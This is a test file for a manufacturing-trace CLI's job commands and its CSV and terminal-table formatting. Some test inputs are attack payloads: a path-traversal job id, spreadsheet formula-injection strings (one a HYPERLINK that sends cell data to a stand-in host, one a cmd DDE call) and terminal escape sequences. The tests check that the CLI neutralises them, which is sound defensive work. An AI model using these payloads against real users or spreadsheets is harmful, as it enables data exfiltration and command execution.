import { existsSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import Database from 'better-sqlite3'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvField, csvRecord } from '../../../main/results/index.js'
import { cellText, displayWidth, formatTable } from '../../../main/cli/job-format.js'
import { main } from '../../../main/cli/main.js'
import { catalogPathOf, openCatalog, type JobRow, type NewJob } from '../../../main/store/index.js'
import { normalizeTraceRequest } from '../../../shared/trace-request.js'
import { captureIo } from '../../fixtures/cli-io.js'


async function cli(...argv: string[]): Promise<{ code: number; out: string; err: string }> {
  const io = captureIo()
  const code = await main(argv, io)
  return { code, out: io.out, err: io.err }
}

const REQUEST = normalizeTraceRequest({ profile: 'query_tool', params: { resolve_type: 'lot_id', values: ['GA26010001-A01'] } })

function job(jobId: string, extra: Partial<NewJob> = {}): NewJob {
  return { job_id: jobId, profile: REQUEST.profile, direction: REQUEST.direction, request: REQUEST, source_id: 'sqlite:/nowhere/plant.sqlite', ...extra }
}

describe('job commands: arguments and flags', () => {
  let root: string
  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'mes-trace-jobs-cli-'))
  })
  afterAll(async () => rm(root, { recursive: true, force: true }))

  it('refuses a malformed JOB_ID with input/invalid naming JOB_ID (exit 2) before opening anything', async () => {
    const dataDir = join(root, 'never-made')
    const commands: string[][] = [
      ['show'], ['cancel'], ['pin'], ['pin', '--off'], ['rm'], ['rerun'], ['export', '--format', 'csv', '--out', join(root, 'x')],
    ]
    for (const [command, ...flags] of commands) {
      for (const bad of ['nope', 'trace-evt-XYZ', '../../etc/passwd', 'trace-evt-0123456789abc']) {
        const r = await cli(command!, bad, ...flags, '--data-dir', dataDir)
        expect([command, bad, r.code]).toEqual([command, bad, 2])
        expect(r.err).toContain(`mes-trace ${command}: [input/invalid] JOB_ID: must be a job id like trace-evt-0123456789ab`)
      }
      const missing = await cli(command!, ...flags, '--data-dir', dataDir)
      expect([command, missing.code]).toEqual([command, 2])
      expect(missing.err).toContain('JOB_ID: is required')
      const two = await cli(command!, 'trace-evt-0123456789ab', 'trace-evt-0123456789ac', ...flags, '--data-dir', dataDir)
      expect([command, two.code]).toEqual([command, 2])
      expect(two.err).toContain('JOB_ID: give one JOB_ID')
    }
    expect(existsSync(dataDir)).toBe(false)
  })

  it('says job/not-found (exit 1) for a well-formed id the catalog does not have', async () => {
    const dataDir = join(root, 'empty')
    for (const argv of [['show'], ['cancel'], ['pin'], ['rm'], ['rerun'], ['export', '--format', 'sqlite', '--out', join(root, 'y.sqlite')]]) {
      const r = await cli(argv[0]!, 'trace-evt-0123456789ab', ...argv.slice(1), '--data-dir', dataDir)
      expect([argv[0], r.code]).toEqual([argv[0], 1])
      expect(r.err).toContain('[job/not-found]')
      expect(r.err).toContain('trace-evt-0123456789ab')
    }
  })

  it('names the flag of every bad option', async () => {
    const dataDir = join(root, 'flags')
    const id = 'trace-evt-0123456789ab'
    const cases: [string[], string][] = [
      [['jobs', '--status', 'done'], '--status'],
      [['jobs', '--status', ','], '--status'],
      [['jobs', '--profile', 'query'], '--profile'],
      [['jobs', '--text', 'x'.repeat(201)], '--text'],
      [['jobs', '--data-dir', ''], '--data-dir'],
      [['show', id, '--offset', '5'], '--offset'],
      [['show', id, '--limit', '5'], '--limit'],
      [['show', id, '--domain', 'events'], '--domain'],
      [['show', id, '--domain', 'history', '--limit', '0'], '--limit'],
      [['show', id, '--domain', 'history', '--limit', '1001'], '--limit'],
      [['show', id, '--domain', 'history', '--offset=-1'], '--offset'],
      [['show', id, '--domain', 'history', '--offset', '1.5'], '--offset'],
      [['show', id, '--domain', 'history', '--sort', 'A:up'], '--sort'],
      [['show', id, '--domain', 'history', '--sort', ':desc'], '--sort'],
      [['export', id, '--out', 'x'], '--format'],
      [['export', id, '--format', 'pdf', '--out', 'x'], '--format'],
      [['export', id, '--format', 'csv'], '--out'],
      [['export', id, '--format', 'sqlite', '--out', 'x', '--domain', 'history'], '--domain'],
      [['export', id, '--format', 'csv', '--out', 'x', '--domain', 'nope'], '--domain'],
      [['import'], 'FILE'],
    ]
    for (const [argv, flag] of cases) {
      const r = await cli(...argv, ...(argv.includes('--data-dir') ? [] : ['--data-dir', dataDir]))
      expect([argv.join(' '), r.code]).toEqual([argv.join(' '), 2])
      expect(r.err).toContain(`[input/invalid] ${flag}: `)
    }
    // Unknown flags and stray arguments are refused by the parser; `run` still takes no positional.
    expect((await cli('jobs', 'extra', '--data-dir', dataDir)).code).toBe(2)
    expect((await cli('show', id, '--bogus', '--data-dir', dataDir)).code).toBe(2)
    expect((await cli('run', 'stray', '--data-dir', dataDir)).code).toBe(2)
  })

  it('documents the new commands in the usage text', async () => {
    const { out } = await cli('help')
    for (const command of ['jobs', 'show JOB_ID', 'cancel JOB_ID', 'pin JOB_ID', 'rm JOB_ID', 'rerun JOB_ID', 'export JOB_ID', 'import FILE']) {
      expect(out).toContain(`  ${command}`)
    }
  })
})

describe('job commands on catalog rows', () => {
  let root: string
  let dataDir: string
  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'mes-trace-jobs-rows-'))
    dataDir = join(root, 'data')
  })
  afterAll(async () => rm(root, { recursive: true, force: true }))

  it('lists nothing in a new data dir', async () => {
    const dir = join(root, 'fresh')
    expect(await cli('jobs', '--data-dir', dir)).toEqual({ code: 0, out: 'No jobs yet. Run one with `mes-trace run`.\n', err: '' })
    expect(await cli('jobs', '--json', '--data-dir', dir)).toEqual({ code: 0, out: '[]\n', err: '' })
  })

  it('lists every job newest first across catalog pages, with the error code of a failed one', async () => {
    const dir = join(root, 'many')
    const catalog = openCatalog(catalogPathOf(dir))
    const ids: string[] = []
    for (let i = 0; i < 1003; i++) {
      const id = `trace-evt-${i.toString(16).padStart(12, '0')}`
      ids.push(id)
      catalog.insertJob(job(id, { created_at: 1_000_000 + i }))
    }
    catalog.completeJob(ids[1000]!, { status: 'failed', ttlMs: 0, error_code: 'source/unreachable', error_message: 'gone' })
    catalog.close()
    const r = await cli('jobs', '--json', '--data-dir', dir)
    const list = JSON.parse(r.out) as { job_id: string; status: string; error: unknown; expires_at: number | null }[]
    expect(list.map((j) => j.job_id)).toEqual([...ids].reverse())
    expect(list[2]).toMatchObject({ status: 'failed', error: { code: 'source/unreachable', message: 'gone' }, expires_at: null })
    const failed = await cli('jobs', '--status', 'failed', '--data-dir', dir)
    expect(failed.out).toMatch(/^trace-evt-0000000003e8 +failed +query_tool +- +- +- +- +\S+ \S+ +\S+ \S+ +never +source\/unreachable\n1 job\(s\)\n$/m)
  })

  it('cancels, pins and removes jobs that never ran, and refuses results of unfinished ones', async () => {
    const catalog = openCatalog(catalogPathOf(dataDir))
    const queued = 'trace-evt-aaaaaaaaaaaa'
    const failed = 'trace-evt-bbbbbbbbbbbb'
    catalog.insertJob(job(queued))
    catalog.insertJob(job(failed))
    const failedRow: JobRow = catalog.completeJob(failed, { status: 'failed', ttlMs: 60_000, error_code: 'worker/crashed', error_message: 'boom' })
    catalog.close()

    const shown = JSON.parse((await cli('show', queued, '--json', '--data-dir', dataDir)).out) as { job: { status: string }; result: unknown }
    expect(shown).toMatchObject({ job: { status: 'queued' }, result: null })
    const page = await cli('show', queued, '--domain', 'history', '--data-dir', dataDir)
    expect([page.code, page.err]).toEqual([1, expect.stringContaining('[job/not-finished]')])
    const exported = await cli('export', failed, '--format', 'csv', '--out', join(root, 'csv'), '--data-dir', dataDir)
    expect([exported.code, exported.err]).toEqual([1, expect.stringContaining('[job/not-finished]')])
    expect(existsSync(join(root, 'csv'))).toBe(false)

    const text = await cli('show', failed, '--data-dir', dataDir)
    expect(text.out).toContain('Error         [worker/crashed] boom\n')
    expect(text.out).toContain(`Run again     mes-trace rerun ${failed}\n`)

    expect(JSON.parse((await cli('pin', queued, '--json', '--data-dir', dataDir)).out)).toMatchObject({ pinned: true, expires_at: null })
    expect((await cli('cancel', queued, '--data-dir', dataDir)).out).toBe(`Cancelled job ${queued} (it was still queued).\n`)
    const pinnedCancelled = JSON.parse((await cli('show', queued, '--json', '--data-dir', dataDir)).out) as { job: { status: string; expires_at: unknown } }
    expect(pinnedCancelled.job).toMatchObject({ status: 'cancelled', expires_at: null })

    expect((await cli('pin', failed, '--off', '--data-dir', dataDir)).out).toMatch(/^Unpinned job trace-evt-bbbbbbbbbbbb: it expires \d{4}-/)
    expect(JSON.parse((await cli('pin', failed, '--off', '--json', '--data-dir', dataDir)).out)).toMatchObject({ expires_at: failedRow.expires_at })

    expect(await cli('rm', failed, '--data-dir', dataDir)).toEqual({ code: 0, out: `Removed job ${failed}.\n`, err: '' })
    expect(JSON.parse((await cli('rm', queued, '--json', '--data-dir', dataDir)).out)).toEqual({ job_id: queued, removed: true, result_file: null })
    expect((await cli('jobs', '--json', '--data-dir', dataDir)).out).toBe('[]\n')
  })

  it('imports only result files, naming the path of anything else and writing nothing', async () => {
    const junk = join(root, 'junk.bin')
    await writeFile(junk, Buffer.alloc(4096, 7))
    const notResult = join(root, 'plain.sqlite')
    const db = new Database(notResult)
    db.exec('CREATE TABLE t (x)')
    db.close()
    const missing = join(root, 'missing.sqlite')
    for (const file of [junk, notResult, missing]) {
      const r = await cli('import', file, '--data-dir', dataDir)
      expect([file, r.code]).toEqual([file, 1])
      // One message whatever the cause, so no answer tells whether a path exists.
      expect(r.err).toBe(`mes-trace import: [import/invalid] ${file} cannot be imported: it is not an MES Trace result file, or it cannot be read.\n`)
    }
    expect(existsSync(join(dataDir, 'results'))).toBe(false)
  })
})

describe('CSV and table formatting', () => {
  it('quotes fields the way RFC 4180 asks', () => {
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('two\nlines')).toBe('"two\nlines"')
    expect(csvField('cr\rlf')).toBe('"cr\rlf"')
    expect(csvField(' 成型 ')).toBe(' 成型 ')
    expect(csvField(null)).toBe('')
    expect(csvField(undefined)).toBe('')
    expect(csvField(12.5)).toBe('12.5')
    expect(csvField(0)).toBe('0')
    expect(csvRecord(['a', null, 3, 'x,y'])).toBe('a,,3,"x,y"\r\n')
  })

  it('keeps text that a spreadsheet would run as a formula as text, with a leading apostrophe', () => {
    expect(csvField('=HYPERLINK("http://x.example/?"&A1)')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1)"`)
    expect(csvField('+cmd|" /C calc"!A0')).toBe(`"'+cmd|"" /C calc""!A0"`)
    expect(csvField('-2+3')).toBe("'-2+3")
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)")
    expect(csvField('\t=1')).toBe("'\t=1")
    expect(csvField('\r=1')).toBe(`"'\r=1"`)
    expect(csvField('a=b')).toBe('a=b')
    expect(csvField(-5)).toBe('-5')
  })

  it('never prints a control character of a cell to the terminal', () => {
    expect(cellText('GA01\u001b[2J\u001b]8;;http://x.example\u0007ok\u009b')).toBe('GA01\ufffd[2J\ufffd]8;;http://x.example\ufffdok\ufffd')
    expect(cellText('a\tb\nc')).toBe('a b↵c')
  })

  it('aligns tables by terminal width, wide characters counting double', () => {
    expect(displayWidth('成型')).toBe(4)
    expect(displayWidth('TMTT')).toBe(4)
    const table = formatTable(['NAME', 'QTY'], [['成型', '5'], ['TMTT', '120']], new Set([1]))
    expect(table.split('\n')).toEqual(['NAME  QTY', '成型    5', 'TMTT  120'])
  })
})
